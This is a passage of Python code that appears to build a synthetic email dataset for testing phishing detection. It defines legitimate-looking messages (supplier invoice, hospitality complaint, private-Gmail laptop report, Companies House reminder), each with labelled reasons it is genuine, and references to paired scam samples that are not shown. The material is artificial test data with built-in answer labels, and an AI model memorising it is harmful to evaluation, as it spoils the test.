    env_from='accounts@northernfloodlight.co.uk', rcpt='sarah.oconnor@example.com',
    headers=[('From', A('Northern Floodlight Systems Accounts', 'accounts@northernfloodlight.co.uk')),
             ('To', A("Sarah O'Connor", 'sarah.oconnor@example.com')),
             ('CC', A('Gareth Evans', 'gareth.evans@northernfloodlight.co.uk')),
             ('Subject', 'Invoice NFS-26-1184 from Northern Floodlight Systems Ltd for Example Group UK Ltd'),
             ('Content-Language', 'en-GB')],
    body=lambda b: b.client(
        'Hi Sarah,\n\nHere\'s invoice NFS-26-1184 for GBP 7,675.00 for the scheduled floodlight maintenance at Example Arena '
        '(PO UK-PO-2026-0371).\n\nThe amount outstanding of GBP 7,675.00 is due on 12 Dec 2026.\n\nBank details are as per '
        'our supplier form and unchanged (NatWest, sort code 01-10-30). If you have any questions, please let us know.\n\n'
        'Thanks,\nAccounts Team\nNorthern Floodlight Systems Ltd\n01204 496 012',
        'outlook', 'us-ascii', '7bit', bstyle='exo', lang='EN-GB',
        attachments=[b.att(_fl_inv, 'application/pdf', 'Invoice NFS-26-1184.pdf')]),
    what='Supplier invoice for floodlight maintenance (PDF), sent from the supplier\'s Microsoft 365.',
    why='Known supplier domain and contact in CC, matches a purchase order, bank details explicitly unchanged, standard 30-day terms.')

msg(file='14-en-pitchside-hospitality-complaint', kind='business', lang='en', when='2026-10-26 09:47:15',
    route=I.gmail, route_kw=dict(workspace=True),
    env_from='emma.clarke@pitchsidetravel.co.uk', rcpt='julia.brandt@example.com',
    headers=[('From', A('Emma Clarke', 'emma.clarke@pitchsidetravel.co.uk')),
             ('To', to('sales')), ('CC', to('uk_mgr')),
             ('Subject', 'Complaint - hospitality package 24 Oct, booking PT-EXA-2291 (40 guests)')],
    body=lambda b: b.client(
        'Dear Julia,\n\nI\'m writing on behalf of our group of 40 guests who attended Saturday\'s match on the Pitchside Gold '
        'package (booking PT-EXA-2291), and I\'m afraid the experience fell well short of what we sold them.\n\n'
        '- 14 guests were seated in block 112 instead of the business seats in block 104 that were confirmed in writing.\n'
        '- The pre-match dinner started 50 minutes late and the hot food ran out before half of our group had been served.\n'
        '- Our coach was not allowed into the hospitality car park although the passes were issued by your office.\n\n'
        'Several guests have asked us for a partial refund and frankly I understand why. I would like to propose a refund of '
        '30 % on the package price (EUR 11,880.00 in total) as a credit note, and I need a written explanation I can share '
        'with the guests by the end of this week.\n\nWe have three more trips booked with you this season and I\'d like to '
        'keep them, but I need to know this won\'t happen again. Happy to have a call - I\'m on 0113 496 0734.\n\n'
        'Kind regards,\nEmma Clarke\nHead of Group Travel | Pitchside Travel Ltd\n12 Wellington Street, Leeds LS1 4HJ',
        'gmail', 'UTF-8', 'quoted-printable'),
    what='Customer complaint about a hospitality package with a refund demand.',
    why='Known customer on its own Google Workspace domain; concrete booking facts, proposes a credit note rather than a '
        'payment to a new account, offers a phone call.')

msg(file='15-en-private-gmail-laptop-broken', kind='business', lang='en', when='2026-12-07 07:34:26',
    route=I.gmail, env_from='jwhitfield.mcr@gmail.com', rcpt='thomas.brueckner@example.com',
    headers=[('From', A('James Whitfield', 'jwhitfield.mcr@gmail.com')),
             ('To', A('Thomas Brückner', 'thomas.brueckner@example.com', 'UTF-8', 'B')),
             ('CC', A("Sarah O'Connor", 'sarah.oconnor@example.com')),
             ('Subject', 'Laptop dead - writing from private email')],
    body=lambda b: b.client(
        'Hi Thomas,\n\nMy work laptop (the Dell with asset tag EX-UK-0117) won\'t boot since this morning - black screen, fan '
        'spins, then it switches off. So I\'m writing from my private Gmail, sorry.\n\nI\'ve logged it on the IT portal from '
        'my phone as well (ticket INC0049102). Could you send a loaner to the Manchester office or tell me whether I should '
        'courier the broken one to Düsseldorf? I have the board call on Thursday, so ideally something before then.\n\n'
        'Sarah - if anything urgent comes in for me, please ring my mobile, I\'m not checking the work mailbox today.\n\n'
        'Cheers,\nJames', 'gmail', 'UTF-8', 'quoted-printable'),
    what='UK office manager reports a broken laptop from his private Gmail.',
    why='Harmless IT request, references an existing help-desk ticket and asset tag, asks for hardware, not money, codes or '
        'credentials; tells the accountant to phone him.',
    pair=[16], pair_note='Same person and channel (Gmail, "James Whitfield") as the gift-card scam.')


def _body_ch(b, c, r):
    t = ('GOV.UK\n\nCompanies House\n\nConfirmation statement reminder\n\nCompany name: ' + UK_CO + '\nCompany number: ' + UK_NO +
         '\n\nYour company\'s next confirmation statement is due by 14 December 2026. The confirmation statement must be '
         'filed at least once every 12 months, even if there have been no changes.\n\nYou can file your confirmation statement '
         'online. It costs £50 and is usually processed within 24 hours.\n\nFind out how to file your confirmation statement:\n'
         'https://www.gov.uk/file-your-confirmation-statement-with-companies-house\n\nYou will need to sign in with your '
         'GOV.UK One Login and have your company authentication code.\n\nIf you have already filed, you do not need to do '
         'anything.\n\nCompanies House\nPlease do not reply to this email. This mailbox is not monitored.\n')
    h = notice_html('utf-8', 'Confirmation statement reminder', [
        'Company name: ' + UK_CO, 'Company number: ' + UK_NO,
        'Your company\'s next confirmation statement is due by 14 December 2026. The confirmation statement must be filed at '
        'least once every 12 months, even if there have been no changes.',
        'You can file your confirmation statement online. It costs £50 and is usually processed within 24 hours.',
        '[[Find out how to file your confirmation statement|https://www.gov.uk/file-your-confirmation-statement-with-companies-house]]',
        'You will need to sign in with your GOV.UK One Login and have your company authentication code.',
        'If you have already filed, you do not need to do anything.'],
        brand='GOV.UK', color='#1d70b8', lang='en',
        logo='<div style="background:#0b0c0c;color:#fff;font-weight:bold;font-size:22px;padding:10px 14px">GOV.UK</div>',
        footer='Companies House<br>Please do not reply to this email. This mailbox is not monitored.')
    return b.alt(b.text(t, 'utf-8', 'quoted-printable'), b.html(h, 'utf-8', 'quoted-printable'), style='py')


msg(file='16-en-companies-house-reminder-govuk-notify', kind='business', lang='en', when='2026-11-16 10:00:41', zone='utc',
    route=I.ses, route_kw=dict(region='eu-west-2'),
    env_from='companies.house@notifications.service.gov.uk', rcpt='sarah.oconnor@example.com',
    headers=[('From', A('Companies House', 'companies.house@notifications.service.gov.uk')),
             ('To', A('', 'sarah.oconnor@example.com')),
             ('Subject', 'Confirmation statement reminder: ' + UK_CO + ' (' + UK_NO + ')')],
    body=_body_ch,
    what='Genuine Companies House reminder (GOV.UK Notify via Amazon SES eu-west-2) that the confirmation statement is due.',
    why='GOV.UK Notify sender on notifications.service.gov.uk, SES London region, neutral tone, due date in the future, '
        'correct £50 fee, links only to www.gov.uk, no credentials requested in the mail.',
    pair=[10], pair_note='Same authority, company and topic as the Companies House phish.')
